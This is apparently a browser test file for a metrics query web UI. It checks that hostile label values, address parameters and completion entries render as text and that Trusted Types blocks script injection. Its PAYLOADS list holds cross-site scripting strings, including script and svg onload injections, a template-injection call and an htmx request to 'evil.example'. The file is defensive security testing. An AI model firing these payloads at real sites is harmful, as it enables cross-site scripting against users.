// Hostile names and values: what comes from exporters, addresses and people must stay text.

const PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  '"><script>alert(2)</script>',
  "'><svg onload=alert(3)>",
  "{{constructor.constructor('alert(4)')()}}",
  "</textarea><script>alert(5)</script>",
  "javascript:alert(6)",
  '" autofocus onfocus=alert(7) x="',
  "<template hx type=partial hx-target=body><h1>owned</h1></template>",
  '<div hx-get="//evil.example" hx-trigger="load">x</div>',
];

export async function hostile({ check, open, assertClean, equal, ok }) {
  const series = PAYLOADS.reduce((expr, payload, i) => `label_replace(${expr}, "p${i}", ${JSON.stringify(payload)}, "", "")`, "vector(1)");

  for (const tab of ["chart", "table"]) {
    await check(`hostile label values stay text in the ${tab}`, async () => {
      const opened = await open(`/query?${new URLSearchParams({ expr: series, tab })}`);
      const { page } = opened;
      await page.locator(tab === "chart" ? ".legend button" : "td.series").first().waitFor();
      const text = await page.locator("#live").innerText();
      for (const payload of PAYLOADS.slice(0, 3)) ok(text.includes(payload.slice(0, 12)), `${payload} is not shown`);
      await page.locator(".plot, td.series").first().hover();
      await assertClean(opened);
      equal(await page.locator("#live img, #live script, #live [hx-get], #live [onload]").count(), 0, "elements made from text");
    });
  }

  await check("hostile text swapped in by htmx stays text", async () => {
    const opened = await open("/query?tab=table");
    const { page } = opened;
    await page.locator("textarea").fill(series);
    await page.keyboard.press("Control+Enter");
    await page.locator(".u-over, td.series").first().waitFor();
    await page.locator('#query input[value="table"]').check({ force: true });
    await page.locator("td.series").first().waitFor();
    await assertClean(opened);
    equal(await page.locator("#live img, #live script, #live [hx-get], h1:has-text('owned')").count(), 0, "elements made from text");
  });

  for (const payload of PAYLOADS) {
    await check(`in the address it stays text: ${payload}`, async () => {
      for (const query of [{ expr: payload }, { expr: "up", tab: payload }, { [payload]: payload }]) {
        const opened = await open(`/query?${new URLSearchParams(query)}`);
        await opened.page.waitForLoadState("load");
        await assertClean(opened);
      }
      const opened = await open(`/?${new URLSearchParams({ from: payload })}`);
      equal(opened.answer.status(), 400, "status");
      equal(await opened.page.locator("main img, main script").count(), 0, "elements made from text");
      equal(await opened.page.evaluate(() => window.violations), [], "violations");
    });
  }

  await check("completion shows hostile values as text", async () => {
    const opened = await open("/query");
    const { page } = opened;
    await page.route("**/ui/complete*", (route) => route.fulfill({ json: PAYLOADS.map((text) => ({ text, kind: "metric", help: text })) }));
    await page.locator("textarea").pressSequentially("a");
    await page.locator(".offers li").first().waitFor();
    equal(await page.locator(".offers img, .offers script").count(), 0, "elements made from text");
    await page.keyboard.press("Tab");
    await assertClean(opened);
  });

  await check("scripts cannot be injected even if markup could", async () => {
    const { page } = await open("/");
    const refused = await page.evaluate(() => {
      const attempts = [
        () => (document.createElement("div").innerHTML = "<b>x</b>"),
        () => document.createElement("script").setAttribute("src", "/assets/x.js") ?? (document.createElement("script").text = "1"),
        () => window.trustedTypes.createPolicy("other", { createHTML: (text) => text }),
        () => window.trustedTypes.createPolicy("skep", { createHTML: (text) => text }),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      });
    });
    equal(refused, [true, true, true, true], "refused");
    // From a timer: what the test driver evaluates itself is exempt from the policy.
    const evaluated = await page.evaluate(
      () =>
        new Promise((resolve) =>
          setTimeout(() => {
            try {
              resolve(new Function("return 1")());
            } catch {
              resolve("refused");
            }
          }),
        ),
    );
    equal(evaluated, "refused", "evaluation of text");
  });
}
